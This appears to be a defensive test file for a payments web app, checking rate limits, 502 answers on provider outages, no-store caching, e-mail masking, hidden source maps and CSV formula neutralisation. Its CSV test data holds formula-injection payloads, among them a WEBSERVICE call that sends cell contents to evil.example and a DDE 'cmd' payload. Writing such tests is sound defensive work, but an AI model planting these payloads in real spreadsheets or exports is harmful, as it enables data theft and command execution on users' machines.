// Attack battery: limits without holes, and answers that leak nothing they need not.
//   - HEAD and GET of a rate-limited route share one counter (found by walking the API
//     description, so a new limited route is covered by existing), in memory and in Redis;
//   - every route that calls PayPal or Stripe is limited and answers 502 when the provider fails;
//     the PayPal client token is shared for a while instead of fetched on every visit;
//   - every API answer is Cache-Control: no-store (the Zelle QR code aside), and the payment views
//     show a customer's e-mail masked;
//   - every CSV export, opened with `,` or `;` (or tab) as the separator, has no cell a
//     spreadsheet would run as a formula, and the database writes cells by the same rules as Node;
//   - source maps are not served.
import { existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { eq, sql } from 'drizzle-orm';
import type { FastifyInstance, InjectOptions } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildApp } from '../../src/server/app.js';
import { selectRows, type DatabaseHandle } from '../../src/server/db/client.js';
import { driverApplications, payments, serviceRequests } from '../../src/server/db/schema.js';
import { csvLine, neutralizeFormula } from '../../src/server/infra/csv-export.js';
import { PROJECT_ROOT } from '../../src/server/project-root.js';
import { loadBuiltSite } from '../../src/server/site/built-site.js';
import { createTestAdmin, signIn, type AdminClient } from '../support/admin.js';
import { formulaCells, parseCsv } from '../support/csv.js';
import { submitApplication } from '../support/driver-applications.js';
import { startFakePaypal, type FakePaypal } from '../support/fake-paypal.js';
import { startFakeStripe, type FakeStripe } from '../support/fake-stripe.js';
import { invoicedRequest, liveProviders, paypalEnv, STRIPE_ENV } from '../support/payments.js';
import { brokerRequest, nextClientAddress, submitRequest } from '../support/service-requests.js';
import { deleteRedisKeys, randomRedisPrefix, redisIsReachable, TEST_REDIS_URL } from '../support/shared-services.js';
import { scratchFolder, testConfig } from '../support/test-config.js';
import { openTestDatabase } from '../support/test-database.js';

let database: DatabaseHandle;
let fakeStripe: FakeStripe;
let fakePaypal: FakePaypal;
/** Stripe and PayPal live, against the local fakes. */
let live: FastifyInstance;
/** No provider keys: the local test checkout stands in. */
let testMode: FastifyInstance;
let admin: AdminClient;

beforeAll(async () => {
  database = await openTestDatabase();
  fakeStripe = await startFakeStripe();
  fakePaypal = await startFakePaypal();
  live = await buildApp({
    config: testConfig({ ...STRIPE_ENV, ...paypalEnv(fakePaypal) }),
    database,
    logger: false,
    paymentProviders: liveProviders(fakeStripe, fakePaypal),
  });
  testMode = await buildApp({ config: testConfig(), database, logger: false });
  await Promise.all([live.ready(), testMode.ready()]);
  await createTestAdmin(database.db);
  admin = await signIn(testMode);
});
afterAll(async () => {
  await live?.close();
  await testMode?.close();
  await fakeStripe?.close();
  await fakePaypal?.close();
  await database?.close();
});

interface Operation {
  method: string;
  path: string;
  url: string;
}

/** Every operation of the API description under /api and /paypal, with sample path parameters. */
function apiOperations(app: FastifyInstance): Operation[] {
  const paths = (app.swagger() as { paths: Record<string, Record<string, unknown>> }).paths;
  return Object.entries(paths)
    .filter(([path]) => path.startsWith('/api/') || path.startsWith('/paypal/'))
    .flatMap(([path, methods]) =>
      Object.keys(methods).map((method) => ({
        method: method.toUpperCase(),
        path,
        url: path.replace(/\{(\w+)\}/g, (_, name: string) =>
          name === 'id' && path.includes('/admin/') ? '00000000-0000-4000-8000-000000000000' : `sample_${name}_000000`,
        ),
      })),
    );
}

describe('HEAD and GET share one rate-limit counter', () => {
  /** The GET routes whose answers carry a rate limit, with the limit. */
  async function limitedGetRoutes(app: FastifyInstance): Promise<{ url: string; max: number }[]> {
    const limited: { url: string; max: number }[] = [];
    for (const operation of apiOperations(app).filter((candidate) => candidate.method === 'GET')) {
      const response = await app.inject({ method: 'GET', url: operation.url, remoteAddress: nextClientAddress() });
      const max = Number(response.headers['x-ratelimit-limit']);
      if (max > 0) limited.push({ url: operation.url, max });
    }
    return limited;
  }

  /** HEAD and GET in turn from one address: exactly `max` are let through, whichever method. */
  async function alternate(app: FastifyInstance, url: string, max: number) {
    const remoteAddress = nextClientAddress();
    const statuses: { method: string; status: number }[] = [];
    for (let index = 0; index < max + 4; index++) {
      const method = index % 2 === 0 ? 'HEAD' : 'GET';
      statuses.push({ method, status: (await app.inject({ method, url, remoteAddress })).statusCode });
    }
    return {
      url,
      allowed: statuses.filter((entry) => entry.status !== 429).length,
      refusedHeads: statuses.filter((entry) => entry.status === 429 && entry.method === 'HEAD').length,
      refusedGets: statuses.filter((entry) => entry.status === 429 && entry.method === 'GET').length,
    };
  }

  it('on every rate-limited GET route of the API', async () => {
    const routes = await limitedGetRoutes(live);
    // The invoice view, the checkout session, a payment's outcome and PayPal's set-up at least.
    expect(routes.map((route) => route.url.split('/sample')[0])).toEqual(
      expect.arrayContaining(['/api/service-requests', '/api/checkout-session', '/api/payments', '/paypal/setup']),
    );
    for (const { url, max } of routes) {
      expect(await alternate(live, url, max)).toEqual({ url, allowed: max, refusedHeads: 2, refusedGets: 2 });
    }
  });

  it('with the counters in Redis too', async (context) => {
    if (!(await redisIsReachable())) {
      console.log(`Redis is not reachable at ${TEST_REDIS_URL}: the Redis case is skipped`);
      context.skip();
    }
    const prefix = randomRedisPrefix();
    const app = await buildApp({ config: testConfig({ REDIS_URL: TEST_REDIS_URL, REDIS_KEY_PREFIX: prefix }), database, logger: false });
    try {
      await app.ready();
      const url = '/api/service-requests/SR-0000-0000-0000-0000';
      // Until Redis is connected the limiter lets requests through uncounted (it fails open).
      for (let tries = 0; tries < 50; tries++) {
        const warmUp = await app.inject({ method: 'GET', url, remoteAddress: nextClientAddress() });
        if (warmUp.headers['x-ratelimit-remaining'] === '29') break;
        await new Promise((resolve) => setTimeout(resolve, 100));
      }
      expect(await alternate(app, url, 30)).toEqual({ url, allowed: 30, refusedHeads: 2, refusedGets: 2 });
    } finally {
      await app.close();
      await deleteRedisKeys(prefix);
    }
  });
});

describe('routes that call a payment provider', () => {
  /** Its own app: its PayPal client has no token shared yet (the outage comes first). */
  let app: FastifyInstance;
  beforeAll(async () => {
    app = await buildApp({
      config: testConfig({ ...STRIPE_ENV, ...paypalEnv(fakePaypal) }),
      database,
      logger: false,
      paymentProviders: liveProviders(fakeStripe, fakePaypal),
    });
    await app.ready();
  });
  afterAll(async () => {
    fakePaypal.outage = false;
    await app?.close();
  });

  const post = (url: string, payload: object) => app.inject({ method: 'POST', url, remoteAddress: nextClientAddress(), payload });

  it('answer 502 while PayPal is down, and PayPal set-up shares one client token once it is back', async () => {
    fakePaypal.outage = true;
    const setup = await app.inject({ method: 'GET', url: '/paypal/setup', remoteAddress: nextClientAddress() });
    expect({ status: setup.statusCode, body: setup.json<unknown>() }).toEqual({
      status: 502,
      body: { error: 'Bad Gateway', code: 'api.status.502', message: expect.stringMatching(/PayPal/) as unknown },
    });
    const order = await post('/paypal/order', { referenceId: await invoicedRequest(app, database.db, '20.00') });
    expect(order.statusCode).toBe(502);

    fakePaypal.outage = false;
    const issued = fakePaypal.clientTokensIssued;
    for (let visit = 0; visit < 3; visit++) {
      const again = await app.inject({ method: 'GET', url: '/paypal/setup', remoteAddress: nextClientAddress() });
      expect(again.json()).toMatchObject({ clientToken: 'fake-client-token', testMode: false });
    }
    expect(fakePaypal.clientTokensIssued - issued).toBe(1);
  });

  it('are all rate limited', async () => {
    for (const url of ['/paypal/setup']) {
      const response = await app.inject({ method: 'GET', url, remoteAddress: nextClientAddress() });
      expect({ url, limited: Number(response.headers['x-ratelimit-limit']) > 0 }).toEqual({ url, limited: true });
    }
    const referenceId = await invoicedRequest(app, database.db, '10.00');
    for (const url of [
      '/api/payments/stripe/checkout',
      '/api/create-payment-intent',
      '/paypal/order',
      '/paypal/order/SAMPLEORDER1/capture',
    ]) {
      const response = await post(url, { referenceId });
      expect({ url, limited: Number(response.headers['x-ratelimit-limit']) > 0 }).toEqual({ url, limited: true });
    }
  });

  it.each(['/api/payments/stripe/checkout', '/api/create-payment-intent'])('%s answers 502 while Stripe is down', async (url) => {
    const referenceId = await invoicedRequest(app, database.db, '30.00');
    // The request and the SDK's two retries.
    fakeStripe.failNext(500, 3);
    const response = await post(url, { referenceId });
    expect(response.statusCode).toBe(502);
  });
});

describe('private answers', () => {
  it('every API answer is no-store, whatever its status (the Zelle QR code may be kept an hour)', async () => {
    for (const app of [live, testMode]) {
      for (const operation of apiOperations(app)) {
        const response = await app.inject({
          method: operation.method as InjectOptions['method'],
          url: operation.url,
          remoteAddress: nextClientAddress(),
          ...(operation.method === 'GET' ? {} : { payload: {} }),
        });
        const expected: unknown =
          operation.path === '/api/payments/zelle-qr.svg' ? 'private, max-age=3600' : expect.stringMatching(/no-store/);
        expect({ ...operation, status: response.statusCode, cacheControl: response.headers['cache-control'] }).toEqual({
          ...operation,
          status: response.statusCode,
          cacheControl: expected,
        });
      }
    }
  });

  it("every answer that holds a customer's data is no-store, and shows the e-mail masked", async () => {
    const email = 'priya.private@customer.example';
    const masked = 'p***@customer.example';
    const referenceId = await invoicedRequest(testMode, database.db, '42.00', email);
    const remoteAddress = nextClientAddress();
    const started = (
      await testMode.inject({ method: 'POST', url: '/api/payments/stripe/checkout', remoteAddress, payload: { referenceId } })
    ).json<{ url: string }>();
    const sessionId = new URL(started.url, 'http://site').searchParams.get('session') ?? '';
    const checkoutBefore = await testMode.inject({ method: 'GET', url: `/api/payments/test-checkout/${sessionId}`, remoteAddress });
    await testMode.inject({ method: 'POST', url: `/api/payments/test-checkout/${sessionId}/complete`, remoteAddress });

    const answers = {
      'invoice view': await testMode.inject({ method: 'GET', url: `/api/service-requests/${referenceId}`, remoteAddress }),
      'test checkout': checkoutBefore,
      'checkout session': await testMode.inject({ method: 'GET', url: `/api/checkout-session/${sessionId}`, remoteAddress }),
      'payment outcome': await testMode.inject({ method: 'GET', url: `/api/payments/${sessionId}/outcome`, remoteAddress }),
      tracking: await testMode.inject({ method: 'POST', url: '/api/track', remoteAddress, payload: { referenceId, email } }),
      chat: await testMode.inject({
        method: 'POST',
        url: '/api/chat',
        remoteAddress,
        payload: { message: `What is the status of ${referenceId}? My e-mail is ${email}` },
      }),
      submission: await testMode.inject({
        method: 'POST',
        url: '/api/service-requests',
        remoteAddress,
        payload: brokerRequest({ contactEmail: email }),
      }),
      'PayPal set-up': await testMode.inject({ method: 'GET', url: '/paypal/setup', remoteAddress }),
      'admin session': await admin.request({ method: 'GET', url: '/api/admin/session' }),
    };
    for (const [name, response] of Object.entries(answers)) {
      expect({
        name,
        ok: response.statusCode < 300,
        cacheControl: response.headers['cache-control'],
        leaksEmail: response.body.includes(email),
      }).toEqual({
        name,
        ok: true,
        cacheControl: 'no-store',
        leaksEmail: false,
      });
    }
    expect(answers['invoice view'].json()).toMatchObject({ contactEmail: masked });
    expect(answers['test checkout'].json()).toMatchObject({ email: masked, amount: '42.00', reference: referenceId });
    expect(answers['checkout session'].json()).toMatchObject({ customer_details: { email: masked } });
    expect(answers['payment outcome'].json()).toMatchObject({ status: 'paid', receiptEmail: masked });
  });
});

describe('CSV exports opened with either separator', () => {
  // What a customer could type, aimed at a spreadsheet: formulas at the start, and after a
  // separator or line break where a reader in another locale (or a naive one) starts a cell.
  const HOSTILE = [
    'Rate sheet;=WEBSERVICE("https://evil.example/?"&A1)',
    'Suite 5,=1+2',
    'Two lines\n@SUM(A1:A9)',
    "Windows lines\r\n+cmd|' /C calc'!A0",
    'Tab\t-2+3',
    '=HYPERLINK("https://evil.example","Click")',
    '\t=1+1',
    'a;\t=1',
    '"; =2',
  ];
  const SEPARATORS = [',', ';', '\t'] as const;

  beforeAll(async () => {
    for (const [index, text] of HOSTILE.entries()) {
      const referenceId = await submitRequest(testMode, brokerRequest({ contactEmail: `csv${index}@leaks.example` }));
      await database.db
        .update(serviceRequests)
        .set({ contactCompany: text, serviceDescription: text, additionalNotes: text, contactName: `Customer ${index}` })
        .where(eq(serviceRequests.referenceId, referenceId));

      const applicationReference = await submitApplication(testMode);
      await database.db
        .update(driverApplications)
        .set({ previousEmployer: text, additionalInfo: text, reasonForLeaving: text })
        .where(eq(driverApplications.referenceId, applicationReference));

      const reported = await testMode.inject({
        method: 'POST',
        url: '/api/payments/report',
        remoteAddress: nextClientAddress(),
        payload: { method: 'zelle', amount: '12.34', email: `payer${index}@leaks.example`, referenceId: `REF-${index}` },
      });
      expect(reported.statusCode).toBe(200);
      await database.db
        .update(payments)
        .set({ customerReference: text, notes: text })
        .where(eq(payments.customerReference, `REF-${index}`));
    }
  });

  const EXPORTS = [
    { name: 'service requests (whole table)', url: '/api/admin/export/service-requests' },
    { name: 'service requests (filtered)', url: '/api/admin/export/service-requests?search=leaks.example' },
    { name: 'driver applications', url: '/api/admin/export/driver-applications' },
    { name: 'payments', url: '/api/admin/export/payments' },
    { name: 'analytics', url: '/api/admin/analytics/export?range=30' },
  ];

  it.each(EXPORTS)('$name: every field quoted, and no cell a formula with , ; or tab', async ({ url }) => {
    const response = await admin.request({ method: 'GET', url });
    expect(response.statusCode).toBe(200);
    const body = response.body.replace(/^\ufeff/, '');
    // One quoted field after another, separated by commas, each line ended by CRLF.
    expect(/^(?:"(?:[^"]|"")*"(?:,|\r\n))+$/.test(body)).toBe(true);
    for (const separator of SEPARATORS) expect({ separator, formulas: formulaCells(body, separator) }).toEqual({ separator, formulas: [] });
    // Read as written, the text is all there, only with the apostrophes before formula starts.
    if (!url.includes('analytics')) {
      const cells = new Set(parseCsv(body, ',').flat());
      for (const text of HOSTILE) expect({ text, found: cells.has(neutralizeFormula(text)) }).toEqual({ text, found: true });
    }
  });

  it('the database writes a text cell exactly as Node does', async () => {
    const values = [
      ...HOSTILE,
      'plain',
      'Suite 5, 2nd floor',
      'say "hi"',
      '-200.00',
      '-2',
      '12.50',
      '-',
      'x=1',
      'a; b',
      '',
      '+',
      '@',
      '\r\n=1',
    ];
    for (const value of values) {
      const [row] = await selectRows<{ cell: string }>(database.db, sql`select csv_text(${value}) as cell`);
      expect({ value, cell: row?.cell }).toEqual({ value, cell: csvLine([neutralizeFormula(value)]).slice(0, -2) });
    }
    const [empty] = await selectRows<{ cell: string }>(database.db, sql`select csv_text(null) as cell`);
    expect(empty?.cell).toBe('""');
  });
});

describe('source maps', () => {
  /** A built site as Vite writes it: a script, its map, and (from older builds) a comment naming the map. */
  function fakeBuild(): string {
    const dir = scratchFolder('limits-site-');
    mkdirSync(join(dir, 'assets'));
    writeFileSync(join(dir, 'index.html'), '<!doctype html><html><head><!--app-head--></head><body></body></html>');
    writeFileSync(join(dir, 'assets', 'index-Abc123.js'), 'console.log(1);\n//# sourceMappingURL=index-Abc123.js.map\n');
    writeFileSync(
      join(dir, 'assets', 'index-Abc123.js.map'),
      JSON.stringify({ version: 3, sources: ['../../src/client/main.tsx'], mappings: '' }),
    );
    return dir;
  }

  async function siteApp(dir: string): Promise<FastifyInstance> {
    const config = testConfig();
    const app = await buildApp({ config, database, logger: false, site: await loadBuiltSite(dir, config.company) });
    await app.ready();
    return app;
  }

  /** Every script of a build, and where its sourceMappingURL comment (if any) points. */
  function scriptsOf(dir: string): { script: string; mapUrl: string | undefined }[] {
    return readdirSync(join(dir, 'assets'))
      .filter((name) => name.endsWith('.js'))
      .map((name) => ({
        script: `/assets/${name}`,
        mapUrl: /\/\/# sourceMappingURL=(\S+)\s*$/.exec(readFileSync(join(dir, 'assets', name), 'utf8'))?.[1],
      }));
  }

  async function expectMapsHidden(dir: string) {
    const app = await siteApp(dir);
    try {
      const maps = readdirSync(join(dir, 'assets')).filter((name) => name.endsWith('.map'));
      expect(maps.length).toBeGreaterThan(0);
      for (const map of maps) {
        for (const method of ['GET', 'HEAD'] as const) {
          const response = await app.inject({ method, url: `/assets/${map}` });
          expect({ map, method, status: response.statusCode }).toEqual({ map, method, status: 404 });
        }
      }
      for (const { script, mapUrl } of scriptsOf(dir)) {
        expect({ script, status: (await app.inject({ method: 'GET', url: script })).statusCode }).toEqual({ script, status: 200 });
        // A comment may remain in an older build; where it points must not answer.
        if (mapUrl)
          expect({
            script,
            mapUrl,
            status: (await app.inject({ method: 'GET', url: new URL(mapUrl, `http://site${script}`).pathname })).statusCode,
          }).toEqual({ script, mapUrl, status: 404 });
      }
    } finally {
      await app.close();
    }
  }

  it('*.js.map answers 404, though the file is on disk', async () => {
    await expectMapsHidden(fakeBuild());
  });

  const builtSite = process.env.TEST_SITE_DIR ?? join(PROJECT_ROOT, 'dist', 'client');
  it('*.js.map answers 404 with the built site', async (context) => {
    if (!existsSync(join(builtSite, 'assets'))) {
      console.log(`no built site in ${builtSite} (npm run build): the built-site case is skipped`);
      context.skip();
    }
    await expectMapsHidden(builtSite);
  });
});
